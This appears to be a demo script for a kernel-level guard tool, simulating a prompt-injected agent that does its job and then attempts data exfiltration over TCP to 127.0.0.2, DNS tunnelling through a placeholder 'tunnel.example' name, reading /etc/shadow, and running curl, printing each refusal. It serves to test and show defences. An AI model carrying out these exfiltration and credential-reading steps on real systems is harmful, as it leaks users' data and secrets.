#!/usr/bin/env python3
"""A demo "agent" that has been talked into misbehaving.

It does its job (asks the internal orders API, orders.demo.test:8765), then
tries what a prompt-injected agent would: send the data elsewhere over TCP,
tunnel it out through DNS names, read a secret outside its workspace, and
start another program. Each attempt
prints what the kernel answered. With --job-only it does its job and
nothing else: the run to learn a policy from (guardctl run --learn).
"""
import json
import os
import socket
import subprocess
import sys
import urllib.request


def attempt(what, fn):
    try:
        result = fn()
        print(f"  allowed  {what}: {result}")
    except Exception as e:  # noqa: BLE001 - the point is to show the refusal
        print(f"  REFUSED  {what}: {e}")


def api():
    with urllib.request.urlopen("http://orders.demo.test:8765/orders.json", timeout=5) as r:
        return json.load(r)["orders"][0]


def exfil_tcp():
    s = socket.create_connection(("127.0.0.2", 8766), timeout=3)
    s.sendall(b"customer records")
    return "sent"


def exfil_dns():
    # The data is the name: any resolver that forwards it hands it over.
    socket.getaddrinfo("c3VwZXIgc2VjcmV0.tunnel.example", 443)
    return "resolved"


def read_secret():
    with open("/etc/shadow") as f:
        return f.readline()[:10]


def read_workspace():
    with open(os.path.join(os.getcwd(), "ticket.txt")) as f:
        return f.read().strip()


def write_scratch():
    path = os.path.join(os.environ["TMPDIR"], "draft.txt")
    with open(path, "w") as f:
        f.write("reply draft")
    return path


def spawn_shell():
    return subprocess.run(["/usr/bin/curl", "-s", "http://127.0.0.2:8766/"], capture_output=True).returncode


print("demo agent: doing its job")
attempt("read the ticket in the workspace", read_workspace)
attempt("call the orders API (orders.demo.test:8765)", api)
attempt("write a draft to its private tmp", write_scratch)
if "--job-only" in sys.argv[1:]:
    sys.exit(0)
print("demo agent: now misbehaving")
attempt("send customer data to 127.0.0.2:8766", exfil_tcp)
attempt("tunnel data out in a DNS name (c3VwZXIgc2VjcmV0.tunnel.example)", exfil_dns)
attempt("read /etc/shadow", read_secret)
attempt("run curl", spawn_shell)
